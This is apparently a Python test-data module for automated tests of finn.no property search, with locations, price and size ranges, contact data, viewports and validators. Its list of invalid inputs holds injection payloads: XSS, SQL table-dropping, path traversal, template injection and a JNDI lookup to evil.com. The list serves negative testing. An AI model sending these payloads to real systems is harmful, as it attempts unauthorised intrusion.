"""
================================================================================
Search Test Data
================================================================================

Static and randomized inputs for finn.no scenarios:
    - Valid locations, price ranges, size ranges, property types
    - Invalid and malicious inputs for negative tests
    - Contact form data
    - Range / location validators

Author: Automation Team
License: MIT
================================================================================
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional


@dataclass(frozen=True)
class PriceRange:
    low: str
    high: str
    description: str = ""


@dataclass(frozen=True)
class SizeRange:
    low: str
    high: str
    description: str = ""


@dataclass(frozen=True)
class PropertyType:
    value: str
    label: str


@dataclass(frozen=True)
class ContactData:
    name: str
    email: str
    phone: str
    message: str


@dataclass(frozen=True)
class Viewport:
    name: str
    width: int
    height: int

    @property
    def slug(self) -> str:
        return self.name.lower().replace(" ", "-")

    def as_size(self) -> dict:
        return {"width": self.width, "height": self.height}


@dataclass
class SearchTestData:
    locations: List[str] = field(default_factory=list)
    price_ranges: List[PriceRange] = field(default_factory=list)
    property_sizes: List[SizeRange] = field(default_factory=list)
    property_types: List[PropertyType] = field(default_factory=list)


@dataclass
class InvalidSearchData:
    invalid_prices: List[str] = field(default_factory=list)
    invalid_sizes: List[str] = field(default_factory=list)
    empty_location: str = ""
    special_characters: List[str] = field(default_factory=list)


VALID_SEARCH_DATA = SearchTestData(
    locations=[
        "Oslo",
        "Bergen",
        "Trondheim",
        "Stavanger",
        "Kristiansand",
        "Tromsø",
        "Drammen",
        "Fredrikstad",
    ],
    price_ranges=[
        PriceRange("2000000", "4000000", "Entry level"),
        PriceRange("4000000", "6000000", "Mid-range"),
        PriceRange("6000000", "10000000", "Premium"),
        PriceRange("10000000", "20000000", "Luxury"),
    ],
    property_sizes=[
        SizeRange("30", "60", "Small apartment"),
        SizeRange("60", "100", "Medium apartment"),
        SizeRange("100", "150", "Large apartment"),
        SizeRange("150", "300", "House/Villa"),
    ],
    property_types=[
        PropertyType("Leilighet", "Apartment"),
        PropertyType("Enebolig", "House"),
        PropertyType("Rekkehus", "Townhouse"),
        PropertyType("Tomannsbolig", "Duplex"),
        PropertyType("Hytte", "Cabin"),
    ],
)

INVALID_SEARCH_DATA = InvalidSearchData(
    invalid_prices=["-1000", "abc", "999999999999", "0", " ", "1000000000000000"],
    invalid_sizes=["-50", "0", "xyz", "10000", " ", "abc123"],
    empty_location="",
    special_characters=[
        "!@#$%^&*()",
        "<script>alert('xss')</script>",
        "'; DROP TABLE properties;--",
        "../../etc/passwd",
        "${jndi:ldap://evil.com}",
        "{{7*7}}",
    ],
)

EXPECTED_ERRORS = {
    "invalid_price": "Ugyldig prisområde",
    "invalid_size": "Ugyldig størrelse",
    "no_results": "Ingen treff",
}

CONTACT_DATA = ContactData(
    name="Test Bruker",
    email="test@example.com",
    phone="98765432",
    message="Jeg er interessert i denne eiendommen. Kan dere kontakte meg?",
)

RESPONSIVE_VIEWPORTS = [
    Viewport("Mobile Portrait", 375, 812),
    Viewport("Mobile Landscape", 812, 375),
    Viewport("Tablet Portrait", 768, 1024),
    Viewport("Tablet Landscape", 1024, 768),
    Viewport("Desktop Small", 1280, 720),
    Viewport("Desktop Large", 1920, 1080),
]

DETAIL_VIEWPORTS = [
    Viewport("Mobile", 375, 812),
    Viewport("Tablet", 768, 1024),
    Viewport("Desktop", 1280, 720),
]

MAX_PRICE = 100_000_000
MAX_SIZE = 1_000


# =============================================================================
# Random Pickers
# =============================================================================

def get_random_location(rng: Optional[random.Random] = None) -> str:
    return (rng or random).choice(VALID_SEARCH_DATA.locations)


def get_random_price_range(rng: Optional[random.Random] = None) -> PriceRange:
    return (rng or random).choice(VALID_SEARCH_DATA.price_ranges)


def get_random_size_range(rng: Optional[random.Random] = None) -> SizeRange:
    return (rng or random).choice(VALID_SEARCH_DATA.property_sizes)


def get_random_property_type(rng: Optional[random.Random] = None) -> PropertyType:
    return (rng or random).choice(VALID_SEARCH_DATA.property_types)


# =============================================================================
# Validators
# =============================================================================

def _parse_int(value: str) -> Optional[int]:
    try:
        return int(value.strip())
    except (AttributeError, ValueError):
        return None


def _is_valid_range(low: str, high: str, upper_bound: int) -> bool:
    low_num, high_num = _parse_int(low), _parse_int(high)
    if low_num is None or high_num is None:
        return False
    return 0 < low_num < high_num <= upper_bound


def is_valid_price_range(low: str, high: str) -> bool:
    """Positive, increasing and at most 100 000 000."""
    return _is_valid_range(low, high, MAX_PRICE)


def is_valid_size_range(low: str, high: str) -> bool:
    """Positive, increasing and at most 1000 m²."""
    return _is_valid_range(low, high, MAX_SIZE)


def is_valid_location(location: str) -> bool:
    return len(location) > 0 and location not in INVALID_SEARCH_DATA.special_characters


__all__ = [
    "CONTACT_DATA",
    "ContactData",
    "DETAIL_VIEWPORTS",
    "EXPECTED_ERRORS",
    "INVALID_SEARCH_DATA",
    "PriceRange",
    "PropertyType",
    "RESPONSIVE_VIEWPORTS",
    "SizeRange",
    "VALID_SEARCH_DATA",
    "Viewport",
    "get_random_location",
    "get_random_price_range",
    "get_random_property_type",
    "get_random_size_range",
    "is_valid_location",
    "is_valid_price_range",
    "is_valid_size_range",
]
